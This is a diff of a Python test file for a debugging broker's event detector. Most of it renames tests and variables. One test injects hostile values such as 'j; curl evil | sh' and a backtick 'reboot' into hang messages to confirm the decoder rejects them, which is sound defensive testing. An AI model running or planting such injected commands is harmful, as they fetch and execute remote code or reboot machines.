@@ -33,7 +33,7 @@ from tests.unit.broker.peers import RUNNING, STOP, WHERE, registration
 TEXTS = st.text(st.characters(codec=None), max_size=5000)
 
 
-def test_it_tells_what_happened_where_and_what_to_type() -> None:
+def test_document_has_all_fields_of_the_event() -> None:
     event = Event(
         kind=EventKind.STOP,
         at=1760000000.12345,
@@ -59,17 +59,17 @@ def test_it_tells_what_happened_where_and_what_to_type() -> None:
 
 
 @given(TEXTS, TEXTS, TEXTS)
-def test_hostile_texts_stay_on_one_line_and_can_not_act_on_a_terminal(sentence: str, job: str, name: str) -> None:
+def test_hostile_texts_stay_on_one_line_without_control_characters(sentence: str, job: str, name: str) -> None:
     where = Place(file=name, line=1, function=name)
     event = Event(kind=EventKind.CRASH, at=1.0, sentence=sentence, job=job, ranks=job, address=job, where=where)
     line = document(event)
     assert line.count(b"\n") == 1
     assert line.endswith(b"\n")
     assert len(line) < 60_000
-    told = json.loads(line)
-    assert told["sentence"].isprintable()
-    assert (told["job"] or "").isprintable()
-    assert all(told["where"][part].isprintable() for part in ("file", "function")) if told["where"] else not name
+    fields = json.loads(line)
+    assert fields["sentence"].isprintable()
+    assert (fields["job"] or "").isprintable()
+    assert all(fields["where"][part].isprintable() for part in ("file", "function")) if fields["where"] else not name
 
 
 HANG = Hang(job="4711.0", kind="missing", sentence="rank 3 is missing", ranks="3")
@@ -96,13 +96,13 @@ class Clock:
 
 
 class Broker:
-    """Occasions with a clock, and the events that were told."""
+    """An event detector with a clock, and the reported events."""
 
     def __init__(self) -> None:
-        self.clock, self.told = Clock(), list[Event]()
+        self.clock, self.reported = Clock(), list[Event]()
         clock = self.clock
         self.occasions = EventDetector(
-            self.told.append, Timers(lambda: clock.now, clock.schedule, wall=lambda: clock.now)
+            self.reported.append, Timers(lambda: clock.now, clock.schedule, wall=lambda: clock.now)
         )
 
     def see(self, *ranks: RankRecord) -> None:
@@ -111,9 +111,9 @@ class Broker:
 
     def news(self, span: float = GATHER_SECONDS) -> list[Event]:
         self.clock.pass_by(span)
-        told = list(self.told)
-        self.told.clear()
-        return told
+        reported = list(self.reported)
+        self.reported.clear()
+        return reported
 
 
 @pytest.fixture
@@ -121,8 +121,8 @@ def broker() -> Broker:
     return Broker()
 
 
-def record(number: int = 0, report: RankReport = RUNNING, state: RankState | None = None, **said: object) -> RankRecord:
-    registered = registration(number, report=report, **said)
+def record(number: int = 0, report: RankReport = RUNNING, state: RankState | None = None, **more: object) -> RankRecord:
+    registered = registration(number, report=report, **more)
     return RankRecord(
         registration=registered, report=report, state=state or report.state, child=None, since=0, heard=0, entered=0
     )
@@ -147,7 +147,7 @@ def test_ranks_that_stop_together_are_one_event(broker: Broker) -> None:
     assert event.next == "dbg-attach 4711.0/gpu013:0"
 
 
-def test_only_the_first_stop_of_a_run_is_told(broker: Broker) -> None:
+def test_only_the_first_stop_of_a_run_is_reported(broker: Broker) -> None:
     broker.see(stopped())
     assert len(broker.news()) == 1
     broker.see(record(), stopped(number=0), stopped(1))
@@ -165,13 +165,13 @@ def test_crashes_soon_after_the_first_are_one_more_event(broker: Broker) -> None
     assert [event.ranks for event in broker.news(AGAIN_SECONDS)] == ["1-2"]
 
 
-def test_held_ranks_and_those_that_a_user_broke_into_are_no_news(broker: Broker) -> None:
+def test_held_and_interrupted_ranks_are_not_reported(broker: Broker) -> None:
     held = RankReport(state=RankState.HELD, stop=STOP.replace(reason="hold"))
     broker.see(record(0, held), stopped(1, reason="interrupt"), record(2))
     assert broker.news() == []
 
 
-def test_a_kept_crash_is_told_with_its_error_and_not_again_at_its_end(broker: Broker) -> None:
+def test_kept_crash_is_reported_once_with_its_error(broker: Broker) -> None:
     broker.see(stopped(3, reason="crash", error="ValueError: bad"))
     (event,) = broker.news()
     assert event.kind is EventKind.CRASH
@@ -181,7 +181,7 @@ def test_a_kept_crash_is_told_with_its_error_and_not_again_at_its_end(broker: Br
     assert broker.news(AGAIN_SECONDS * 2) == []
 
 
-def test_a_process_that_is_started_again_under_its_key_may_crash_again(broker: Broker) -> None:
+def test_crash_of_a_restarted_process_is_reported_again(broker: Broker) -> None:
     for life in range(3):
         broker.see(record(0, state=RankState.RUNNING, secret=f"{life:032}"))
         crash = record(0, state=RankState.EXITED, secret=f"{life:032}")
@@ -190,7 +190,7 @@ def test_a_process_that_is_started_again_under_its_key_may_crash_again(broker: B
         assert [event.kind for event in broker.news(AGAIN_SECONDS)] == [EventKind.CRASH]
 
 
-def test_ranks_that_a_launcher_ended_afterwards_are_not_told(broker: Broker) -> None:
+def test_ranks_that_a_launcher_ended_afterwards_are_not_reported(broker: Broker) -> None:
     first, other = ended(0, 1), ended(1, -signal.SIGKILL)
     broker.see(other, first, ended(2, -signal.SIGTERM), ended(3, 0))
     other.end.cause = "its launcher"
@@ -198,7 +198,7 @@ def test_ranks_that_a_launcher_ended_afterwards_are_not_told(broker: Broker) -> 
     assert (event.ranks, event.sentence) == ("0", "gpu013:0 of job 4711.0 has exited with status 1: ValueError: bad")
 
 
-def test_a_lease_is_told_once_before_it_ends_and_anew_if_it_was_extended(approved: Approved, broker: Broker) -> None:
+def test_end_of_a_lease_is_reported_once_and_again_after_an_extension(approved: Approved, broker: Broker) -> None:
     assert broker.news() == []
     broker.see(stopped(run="r", lease=28800.0, lease_seconds=400.0))
     assert [event.kind for event in broker.news()] == [EventKind.STOP]
@@ -213,7 +213,7 @@ def test_a_lease_is_told_once_before_it_ends_and_anew_if_it_was_extended(approve
     assert [event.kind for event in broker.news(AGAIN_SECONDS)] == [EventKind.LEASE]
 
 
-def test_the_same_hang_is_told_once(broker: Broker) -> None:
+def test_same_hang_is_reported_once(broker: Broker) -> None:
     broker.occasions.hang(HANG)
     broker.occasions.hang(HANG.replace(sentence="rank 3 is missing, for 4 min"))
     (event,) = broker.news(0)
@@ -228,35 +228,35 @@ def test_the_same_hang_is_told_once(broker: Broker) -> None:
     assert [event.ranks for event in broker.news()] == ["4", "3"]
 
 
-def test_refusals_are_told_once_for_each_host_and_a_scan_hides_no_hang(broker: Broker) -> None:
+def test_refusals_are_reported_once_for_each_host_and_hide_no_hang(broker: Broker) -> None:
     for number in range(100):
         broker.occasions.refused(f"10.0.0.{number}", "the token is wrong\n")
         broker.occasions.refused(f"10.0.0.{number}", "the token is wrong\n")
     broker.occasions.hang(HANG)
-    told = broker.news(0)
-    assert [event.kind for event in told] == [EventKind.REFUSED] * events.MAX_SELDOM + [EventKind.HANG]
-    assert told[0].sentence == "a request from 10.0.0.0 was refused: the token is wrong"
+    reported = broker.news(0)
+    assert [event.kind for event in reported] == [EventKind.REFUSED] * events.MAX_SELDOM + [EventKind.HANG]
+    assert reported[0].sentence == "a request from 10.0.0.0 was refused: the token is wrong"
 
 
 @pytest.mark.parametrize(
     ("left", "shown"), [(28800.0, "480 min"), (119.4, "119 s"), (120.0, "2 min"), (0.0, "0 s"), (None, "0 s")]
 )
-def test_the_time_left_is_told_in_minutes_or_seconds(approved: Approved, left: float | None, shown: str) -> None:
+def test_time_left_is_shown_in_minutes_or_seconds(approved: Approved, left: float | None, shown: str) -> None:
     event = events.of_ranks(EventKind.LEASE, [events._seen(stopped(lease=28800.0, lease_seconds=left))], 1.0)
     approved(event.sentence)
 
 
-def test_a_rank_that_is_gone_names_the_list_as_next_step_and_its_signal(approved: Approved) -> None:
+def test_event_of_an_ended_rank_names_its_signal_and_the_list_command(approved: Approved) -> None:
     event = events.of_ranks(EventKind.CRASH, [events._seen(ended(0, -50))], 1.0)
     approved(event.sentence)
     assert event.next == "dbg-attach list --all"
 
 
 @pytest.mark.parametrize(
-    ("says", "begins"), [("", "job j hangs: no"), ("a driver (bob)", "job j hangs (reported by a driver (bob)): no")]
+    ("source", "begins"), [("", "job j hangs: no"), ("a driver (bob)", "job j hangs (reported by a driver (bob)): no")]
 )
-def test_what_to_type_at_a_hang_comes_from_the_broker(broker: Broker, says: str, begins: str) -> None:
-    broker.occasions.hang(Hang(job="j", kind="unknown", sentence="no cause is seen"), says)
+def test_next_command_at_a_hang_is_made_by_the_broker(broker: Broker, source: str, begins: str) -> None:
+    broker.occasions.hang(Hang(job="j", kind="unknown", sentence="no cause is seen"), source)
     (event,) = broker.news(0)
     assert event.sentence.startswith(begins)
     assert event.next == "dbg-attach why j/all"
@@ -264,8 +264,8 @@ def test_what_to_type_at_a_hang_comes_from_the_broker(broker: Broker, says: str,
 
 
 @pytest.mark.parametrize("changes", [{"job": "j; curl evil | sh"}, {"ranks": "`reboot`"}, {"job": ""}])
-def test_a_verdict_can_not_make_up_what_to_type(changes: dict[str, str]) -> None:
-    said = {"type": "hang", "job": "j", "kind": "missing", "sentence": "rank 3 is missing", "ranks": "3"}
-    assert not hasattr(decode(json.dumps({**said, "next": "reboot"}), Sender.CLIENT), "next")
+def test_hang_report_cannot_set_the_next_command(changes: dict[str, str]) -> None:
+    message = {"type": "hang", "job": "j", "kind": "missing", "sentence": "rank 3 is missing", "ranks": "3"}
+    assert not hasattr(decode(json.dumps({**message, "next": "reboot"}), Sender.CLIENT), "next")
     with pytest.raises(PeerError):
-        decode(json.dumps({**said, **changes}), Sender.CLIENT)
+        decode(json.dumps({**message, **changes}), Sender.CLIENT)
